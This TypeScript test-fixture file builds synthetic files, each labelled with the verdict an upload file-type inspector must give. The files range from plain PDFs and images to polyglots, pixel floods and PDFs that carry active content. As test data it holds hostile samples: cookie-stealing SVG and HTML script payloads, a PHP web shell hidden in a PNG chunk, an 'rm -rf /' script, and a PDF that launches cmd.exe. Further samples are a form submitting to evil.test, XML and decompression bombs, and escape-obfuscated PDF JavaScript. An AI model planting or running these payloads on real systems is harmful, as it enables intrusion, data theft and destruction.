import { deflateSync } from "node:zlib";
import { maxFileBytes } from "../../src/documents/limits";
import type { FileProblem } from "../../src/documents/problems";
import type { FileKind } from "../../src/documents/sniff";

export interface CorpusFile {
  name: string;
  bytes: Uint8Array<ArrayBuffer>;
  /** What the inspection must say. */
  expected: FileKind | FileProblem;
}

type Part = string | number[] | Uint8Array;

/** Bytes from Latin-1 text, numbers and other bytes. */
export function bytesOf(...parts: Part[]): Uint8Array<ArrayBuffer> {
  const pieces = parts.map((part) =>
    typeof part === "string" ? Uint8Array.from(part, (char) => char.charCodeAt(0)) : Uint8Array.from(part),
  );
  const all = new Uint8Array(pieces.reduce((sum, piece) => sum + piece.length, 0));
  let at = 0;
  for (const piece of pieces) {
    all.set(piece, at);
    at += piece.length;
  }
  return all;
}

export const u16 = (n: number): number[] => [(n >> 8) & 255, n & 255];
export const u32 = (n: number): number[] => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
export const le16 = (n: number): number[] => u16(n).reverse();
const le24 = (n: number): number[] => [n & 255, (n >> 8) & 255, (n >> 16) & 255];
const le32 = (n: number): number[] => u32(n).reverse();
export const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
export const utf16 = (text: string): Uint8Array => bytesOf(...[...text].map((char) => le16(char.charCodeAt(0))));

export const segment = (marker: number, ...content: Part[]): Uint8Array => {
  const body = bytesOf(...content);
  return bytesOf([0xff, marker], u16(body.length + 2), body);
};

/** A JPEG by structure: its pixels are noise, which nothing here decodes. */
export function jpeg(
  wish: { width?: number; height?: number; frame?: number; before?: Part[]; inside?: Part; behind?: Part } = {},
) {
  const {
    width = 640,
    height = 480,
    frame = 0xc0,
    before = [segment(0xe0, "JFIF\0", [1, 1, 0, 0, 72, 0, 72, 0, 0])],
  } = wish;
  return bytesOf(
    [0xff, 0xd8],
    ...before,
    segment(frame, [8], u16(height), u16(width), [1, 1, 0x11, 0]),
    segment(0xc4, [0], new Uint8Array(16)),
    segment(0xda, [1, 1, 0, 0, 63, 0]),
    [0x12, 0x34, 0xff, 0x00, 0x56, 0xff, 0xd0, 0x78, 0x9a],
    wish.inside ?? [],
    [0xff, 0xd9],
    wish.behind ?? [],
  );
}

export const chunk = (type: string, ...content: Part[]): Uint8Array => {
  const body = bytesOf(...content);
  return bytesOf(u32(body.length), type, body, [0, 0, 0, 0]);
};

export function png(
  wish: { width?: number; height?: number; depth?: number; more?: Part[]; pixels?: Part; behind?: Part } = {},
) {
  const {
    width = 640,
    height = 480,
    depth = 8,
    more = [],
    pixels = chunk("IDAT", deflateSync(new Uint8Array(64))),
  } = wish;
  const header = chunk("IHDR", u32(width), u32(height), [depth, 2, 0, 0, 0]);
  return bytesOf("\x89PNG\r\n\x1a\n", header, ...more, pixels, chunk("IEND"), wish.behind ?? []);
}

const riff = (...chunks: Part[]): Uint8Array<ArrayBuffer> => {
  const body = bytesOf("WEBP", ...chunks);
  return bytesOf("RIFF", le32(body.length), body);
};
export const webpChunk = (type: string, ...content: Part[]): Uint8Array => {
  const body = bytesOf(...content);
  return bytesOf(type, le32(body.length), body, body.length % 2 === 1 ? [0] : []);
};
export const webp = (width = 640, height = 480): Uint8Array<ArrayBuffer> =>
  riff(webpChunk("VP8 ", [0x30, 1, 0], [0x9d, 1, 0x2a], le16(width), le16(height), new Uint8Array(8)));
const webpLossless = (width: number, height: number): Uint8Array<ArrayBuffer> =>
  riff(webpChunk("VP8L", [0x2f], le32((width - 1) | ((height - 1) << 14)), new Uint8Array(12)));
export const webpExtended = (width: number, height: number, ...chunks: Part[]): Uint8Array<ArrayBuffer> =>
  riff(webpChunk("VP8X", [0x10, 0, 0, 0], le24(width - 1), le24(height - 1)), ...chunks);

export const box = (type: string, ...content: Part[]): Uint8Array => {
  const body = bytesOf(...content);
  return bytesOf(u32(body.length + 8), type, body);
};
export const ispe = (width: number, height: number): Uint8Array => box("ispe", [0, 0, 0, 0], u32(width), u32(height));
export function heic(
  wish: { brand?: string; sizes?: [number, number][]; inside?: Part; behind?: Part } = {},
): Uint8Array<ArrayBuffer> {
  const { brand = "heic", sizes = [[4032, 3024]] } = wish;
  const properties = box("iprp", box("ipco", ...sizes.map(([width, height]) => ispe(width, height))));
  const meta = box("meta", [0, 0, 0, 0], box("hdlr", new Uint8Array(20)), properties);
  return bytesOf(
    box("ftyp", brand, [0, 0, 0, 0], "mif1heic"),
    wish.inside ?? [],
    meta,
    box("mdat", new Uint8Array(64).fill(7)),
    wish.behind ?? [],
  );
}

/** A one-page PDF. `objects` are added as they are. */
export function pdf(
  wish: { version?: string; catalog?: string; objects?: Part[]; trailer?: string; behind?: Part } = {},
) {
  const { version = "1.4", catalog = "", objects = [], trailer = "" } = wish;
  return bytesOf(
    `%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`,
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n`,
    "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n",
    "4 0 obj\n<< /Length 38 >>\nstream\nBT /F1 24 Tf 72 720 Td (Statement) Tj ET\nendstream\nendobj\n",
    ...objects,
    `xref\n0 5\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R ${trailer} >>\nstartxref\n400\n%%EOF\n`,
    wish.behind ?? [],
  );
}

export const stream = (dictionary: string, content: Uint8Array): Uint8Array =>
  bytesOf(`9 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`, content, "\nendstream\nendobj\n");
export const objectStream = (objects: string, more = "/Filter /FlateDecode", name = "ObjStm"): Uint8Array =>
  stream(`/Type /${name} /N 2 /First 10 ${more}`, deflateSync(utf8(`11 0 12 40 ${objects}`)));

/** An archive by structure: one stored file, a directory, an end record. */
export function zip(fileName: string, content = "x"): Uint8Array<ArrayBuffer> {
  const body = utf8(content);
  const entry = bytesOf(
    new Uint8Array(10),
    le32(0),
    le32(body.length),
    le32(body.length),
    le16(fileName.length),
    le16(0),
  );
  const local = bytesOf("PK\x03\x04", entry, fileName, body);
  const directory = bytesOf("PK\x01\x02", [20, 0], entry, new Uint8Array(14), fileName);
  const end = bytesOf("PK\x05\x06", [0, 0, 0, 0, 1, 0, 1, 0], le32(directory.length), le32(local.length), [0, 0]);
  return bytesOf(local, directory, end);
}

/** Noise without 0xff and without letters in a row: what compressed data looks like to a search. Always the same. */
export function noise(length: number, seed = 7): Uint8Array<ArrayBuffer> {
  const bytes = new Uint8Array(length);
  let state = seed;
  for (let at = 0; at < length; at += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[at] = (state >>> 16) % 255;
  }
  return bytes;
}

export const evilSvg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>';
export const page = "<!doctype html><html><body><script>alert(1)</script></body></html>";
export const jsAction = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const motionPhoto = bytesOf(box("ftyp", "mp42", [0, 0, 0, 0], "isom"), box("mdat", noise(4_096)));
const xmp = segment(
  0xe1,
  'http://ns.adobe.com/xap/1.0/\0<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>',
);

export const file = (name: string, bytes: Uint8Array<ArrayBuffer>, expected: CorpusFile["expected"]): CorpusFile => ({
  name,
  bytes,
  expected,
});
export const text = (name: string, content: string, expected: FileProblem): CorpusFile =>
  file(name, bytesOf(utf8(content)), expected);

/** Files people send and files people should not, each with what must be said of it. */
export const corpus: readonly CorpusFile[] = [
  // What applicants send.
  file("a PDF 1.4", pdf(), "application/pdf"),
  file("a PDF 2.0", pdf({ version: "2.0" }), "application/pdf"),
  file("a PDF that opens at a page", pdf({ catalog: "/OpenAction [3 0 R /Fit]" }), "application/pdf"),
  file(
    "a PDF with a form and a link",
    pdf({
      catalog: "/AcroForm << /Fields [] >>",
      objects: ["8 0 obj << /S /URI /URI (https://example.com) >> endobj\n"],
    }),
    "application/pdf",
  ),
  file(
    "a PDF with objects in a compressed stream",
    pdf({ version: "1.5", objects: [objectStream("<< /Type /Font >> << /Type /Info >>")] }),
    "application/pdf",
  ),
  file(
    "a PDF with objects in a plain stream",
    pdf({ objects: [stream("/Type /ObjStm /N 1 /First 5", utf8("11 0 << /Type /Font >>"))] }),
    "application/pdf",
  ),
  file(
    "a PDF with a big picture in it",
    pdf({ objects: [stream("/Subtype /Image", noise(300_000))] }),
    "application/pdf",
  ),
  file(
    "a PDF whose picture happens to spell /JS and /XFA",
    pdf({ objects: [stream("/Subtype /Image", bytesOf("\x81/JS(\x90 /XFA [\x07", noise(64)))] }),
    "application/pdf",
  ),
  file("a PDF with spaces after its end", pdf({ behind: "\r\n\0\0  \n" }), "application/pdf"),
  file("a baseline JPEG", jpeg(), "image/jpeg"),
  file("a progressive JPEG", jpeg({ frame: 0xc2, width: 4032, height: 3024 }), "image/jpeg"),
  file("a JPEG with camera data", jpeg({ before: [segment(0xe1, "Exif\0\0MM\0*", noise(200)), xmp] }), "image/jpeg"),
  file(
    "a JPEG with a second scan and fill bytes",
    jpeg({ inside: bytesOf([0xff, 0xff], segment(0xda, [1, 1, 0, 0, 63, 0]), noise(50)) }),
    "image/jpeg",
  ),
  file("a motion photo: a JPEG with a film behind it", jpeg({ behind: motionPhoto }), "image/jpeg"),
  file("a JPEG with its depth picture behind it", jpeg({ behind: jpeg({ width: 320, height: 240 }) }), "image/jpeg"),
  file("a PNG", png(), "image/png"),
  file(
    "a PNG of 16 bits with text",
    png({ depth: 16, more: [chunk("tEXt", "Title\0Passport"), chunk("gAMA", u32(45_455))] }),
    "image/png",
  ),
  file("a PNG at the very limit of its side", png({ width: 20_000, height: 5_000 }), "image/png"),
  file("a lossy WEBP", webp(), "image/webp"),
  file("a lossless WEBP", webpLossless(1_200, 800), "image/webp"),
  file(
    "a WEBP with transparency",
    webpExtended(800, 600, webpChunk("ALPH", noise(9)), webpChunk("VP8 ", new Uint8Array(16))),
    "image/webp",
  ),
  file("a HEIC photo", heic(), "image/heic"),
  file(
    "a HEIC photo of tiles",
    heic({
      sizes: [
        [512, 512],
        [4032, 3024],
        [320, 240],
      ],
    }),
    "image/heic",
  ),
  file("a HEIF photo (mif1)", heic({ brand: "mif1" }), "image/heic"),

  // Not documents.
  file("nothing", bytesOf(), "empty"),
  file("one byte more than allowed", bytesOf(jpeg(), new Uint8Array(maxFileBytes)), "too_large"),
  text("an SVG", evilSvg, "svg"),
  text(
    "an SVG behind a declaration and a comment",
    `<?xml version="1.0"?><!-- ${"x".repeat(900)} -->\n${evilSvg}`,
    "svg",
  ),
  file("an SVG with a byte-order mark", bytesOf([0xef, 0xbb, 0xbf], utf8(evilSvg)), "svg"),
  file("an SVG in UTF-16", bytesOf([0xff, 0xfe], utf16(evilSvg)), "svg"),
  file("an SVG in UTF-16 without a mark", bytesOf(utf16(evilSvg)), "svg"),
  text("an SVG with a prefix", '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>', "svg"),
  text("an HTML page", page, "html"),
  text("an HTML page with spaces and capitals", `\n\t  <HTML><BODY ONLOAD=alert(1)>`, "html"),
  text("an HTML fragment", "<img src=x onerror=alert(1)>", "html"),
  text("an XHTML page", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head/></html>', "html"),
  text(
    "a saved page (MHTML)",
    'From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b',
    "html",
  ),
  text("an XML file", '<?xml version="1.0"?><invoice><total>1</total></invoice>', "xml"),
  text("an XML bomb", '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]><lolz>&l2;</lolz>', "xml"),
  file("a zip archive", zip("secrets.txt"), "archive"),
  file("a Word document", zip("[Content_Types].xml", "<Types/>"), "office"),
  file("a spreadsheet", zip("xl/workbook.xml"), "office"),
  file("an OpenDocument text", zip("mimetype", "application/vnd.oasis.opendocument.text"), "office"),
  file("an old Word document", bytesOf("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", new Uint8Array(600)), "office"),
  text("an RTF text", "{\\rtf1\\ansi Hello}", "office"),
  file("a gzip archive", bytesOf([0x1f, 0x8b, 8, 0], noise(40)), "archive"),
  file("a RAR archive", bytesOf("Rar!\x1a\x07\x01\0", noise(40)), "archive"),
  file("a 7z archive", bytesOf("7z\xbc\xaf\x27\x1c", noise(40)), "archive"),
  file("a tar archive", bytesOf("notes.txt", new Uint8Array(248), "ustar\0", noise(300)), "archive"),
  file("a Windows program", bytesOf("MZ\x90\0", noise(200)), "executable"),
  file("a Linux program", bytesOf("\x7fELF\x02\x01\x01", noise(200)), "executable"),
  file("a Mac program", bytesOf([0xcf, 0xfa, 0xed, 0xfe], noise(200)), "executable"),
  file("a Java class", bytesOf([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52], noise(200)), "executable"),
  text("a shell script", "#!/bin/sh\nrm -rf /\n", "executable"),
  file("a GIF", bytesOf("GIF89a", le16(10), le16(10), noise(40)), "other_image"),
  file("a TIFF", bytesOf("II*\0", noise(40)), "other_image"),
  file("a BMP", bytesOf("BM", le32(500), [0, 0, 0, 0], noise(60)), "other_image"),
  file("an AVIF", bytesOf(box("ftyp", "avif", [0, 0, 0, 0], "avifmif1"), noise(40)), "other_image"),
  text("a text", "Dear Sir or Madam", "unknown"),
  file("noise", noise(1_000), "unknown"),
  file("a film", bytesOf(motionPhoto), "unknown"),

  // Too big to open, cut off, damaged.
  file("a PNG of 50,000 × 50,000 in a hundred bytes", png({ width: 50_000, height: 50_000 }), "pixel_flood"),
  file("a PNG one pixel too wide", png({ width: 20_001, height: 1 }), "pixel_flood"),
  file("a JPEG of 65,535 × 65,535", jpeg({ width: 65_535, height: 65_535 }), "pixel_flood"),
  file("a JPEG of 101 megapixels", jpeg({ width: 10_100, height: 10_000 }), "pixel_flood"),
  file(
    "a WEBP of 16 million pixels a side",
    webpExtended(16_000_000, 16_000_000, webpChunk("VP8 ", new Uint8Array(16))),
    "pixel_flood",
  ),
  file(
    "a HEIC with one flooded tile",
    heic({
      sizes: [
        [512, 512],
        [4_000_000_000, 4_000_000_000],
      ],
    }),
    "pixel_flood",
  ),
  file("a JPEG without an end", jpeg().slice(0, -6), "truncated"),
  file("a JPEG of three bytes", bytesOf([0xff, 0xd8, 0xff]), "truncated"),
  file("a JPEG cut inside a segment", jpeg().slice(0, 12), "truncated"),
  file("a JPEG that ends before its picture", bytesOf([0xff, 0xd8, 0xff, 0xd9]), "corrupt"),
  file("a JPEG without height", jpeg({ height: 0 }), "corrupt"),
  file(
    "a JPEG with nonsense between its segments",
    bytesOf(jpeg().slice(0, 20), "nonsense", jpeg().slice(20)),
    "corrupt",
  ),
  file("a PNG without an end", png().slice(0, -12), "truncated"),
  file("a PNG of its first bytes", png().slice(0, 12), "truncated"),
  file("a PNG without pixels", png({ pixels: [] }), "corrupt"),
  file("a PNG with a depth of 7", png({ depth: 7 }), "corrupt"),
  file("a PNG whose chunk is longer than the file", png({ more: [bytesOf(u32(4_000_000_000), "tEXt")] }), "truncated"),
  file("a WEBP without an end", webp().slice(0, -4), "truncated"),
  file("a WEBP without a picture", webpExtended(800, 600, webpChunk("EXIF", noise(20))), "corrupt"),
  file("a HEIC without an end", heic().slice(0, -10), "truncated"),
  file("a HEIC without a size", heic({ sizes: [] }), "corrupt"),
  file("a PDF without an end", pdf().slice(0, 300), "truncated"),
  file("a PDF of its first line", bytesOf("%PDF-1.7\n"), "truncated"),
  file(
    "a PDF whose object stream has no end",
    pdf({ objects: ["9 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"] }),
    "truncated",
  ),

  // Two things at once.
  file("a PDF with a page in front", bytesOf(page, pdf()), "polyglot"),
  file("a PDF after a few lines", bytesOf("\n\n\n", pdf()), "polyglot"),
  file("a PDF that is a page as well", pdf({ version: "1.4\n<script>alert(1)</script>" }), "polyglot"),
  file("a PDF with an archive behind it", pdf({ behind: zip("evil.exe") }), "polyglot"),
  file("a PDF with much behind it", pdf({ behind: noise(5_000) }), "polyglot"),
  file("a JPEG with an archive behind it (GIFAR)", jpeg({ behind: zip("Evil.class") }), "polyglot"),
  file("a PNG with an archive behind it", png({ behind: zip("evil.js") }), "polyglot"),
  file("an archive in the camera data of a JPEG", jpeg({ before: [segment(0xe1, zip("a.jar"))] }), "polyglot"),
  file(
    "a page in a comment of a JPEG",
    jpeg({ before: [segment(0xfe, "*/=alert(1)</script><script>alert(2)</script>")] }),
    "polyglot",
  ),
  file("a page in a JPEG's very first segment", jpeg({ before: [segment(0xe0, page)] }), "polyglot"),
  file("a PHP program in a PNG", png({ more: [chunk("tEXt", "Comment\0<?php system($_GET[0]); ?>")] }), "polyglot"),
  file("a PDF in a JPEG", jpeg({ before: [segment(0xfe, pdf())] }), "polyglot"),
  file("a PDF behind a PNG", png({ behind: pdf() }), "polyglot"),
  file("a program behind a PNG", png({ behind: bytesOf("MZ\x90\0", noise(50)) }), "polyglot"),
  file("a page behind a HEIC", heic({ behind: utf8(page) }), "polyglot"),
  file("an SVG behind a WEBP", bytesOf(webp(), utf8(evilSvg)), "polyglot"),
  file("a RAR behind a JPEG", jpeg({ behind: bytesOf("Rar!\x1a\x07\x01\0", noise(40)) }), "polyglot"),

  // PDFs that do something.
  file("a PDF with a script", pdf({ catalog: `/OpenAction ${jsAction}` }), "pdf_active"),
  file(
    "a PDF with a script in escapes",
    pdf({ catalog: "/OpenAction << /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>" }),
    "pdf_active",
  ),
  file(
    "a PDF with a script in capital escapes",
    pdf({ catalog: "/OpenAction << /S /#4A#61#76#61#53cript >>" }),
    "pdf_active",
  ),
  file("a PDF with a script by reference", pdf({ objects: ["8 0 obj << /JS 9 0 R >> endobj\n"] }), "pdf_active"),
  file(
    "a PDF with a script in an object stream",
    pdf({ version: "1.5", objects: [objectStream(`<< /A 1 >> ${jsAction}`)] }),
    "pdf_active",
  ),
  file(
    "a PDF with a script in an escaped object stream",
    pdf({ objects: [objectStream(jsAction, "/Filter /FlateDecode", "Obj#53tm")] }),
    "pdf_active",
  ),
  file(
    "a PDF with a script inside what poses as a stream",
    pdf({ objects: [`% >> stream\n8 0 obj ${jsAction} endobj\n% endstream\n`] }),
    "pdf_active",
  ),
  file("a PDF that starts a program", pdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }), "pdf_active"),
  file(
    "a PDF with an attachment",
    pdf({ objects: ["8 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"] }),
    "pdf_active",
  ),
  file("a PDF with names of attachments", pdf({ catalog: "/Names << /EmbeddedFiles 8 0 R >>" }), "pdf_active"),
  file("a PDF with a film that plays", pdf({ objects: ["8 0 obj << /Subtype /RichMedia >> endobj\n"] }), "pdf_active"),
  file("a PDF with an XFA form", pdf({ catalog: "/AcroForm << /XFA [8 0 R] >>" }), "pdf_active"),
  file(
    "a PDF that sends its form away",
    pdf({ objects: ["8 0 obj << /S /SubmitForm /F (http://evil.test) >> endobj\n"] }),
    "pdf_active",
  ),
  file("a locked PDF", pdf({ trailer: "/Encrypt 8 0 R /ID [<00> <00>]" }), "pdf_encrypted"),
  file("a locked PDF in escapes", pdf({ trailer: "/#45ncrypt << /Filter /Standard >>" }), "pdf_encrypted"),
  file(
    "a PDF whose object stream does not unpack",
    pdf({ objects: [stream("/Type /ObjStm /Filter /FlateDecode", noise(200))] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream is packed twice",
    pdf({ objects: [objectStream("<< >>", "/Filter [/FlateDecode /ASCIIHexDecode]")] }),
    "pdf_opaque",
  ),
  file(
    "a PDF whose object stream is a bomb",
    pdf({ objects: [stream("/Type /ObjStm /Filter /FlateDecode", deflateSync(new Uint8Array(20_000_000)))] }),
    "pdf_opaque",
  ),
];
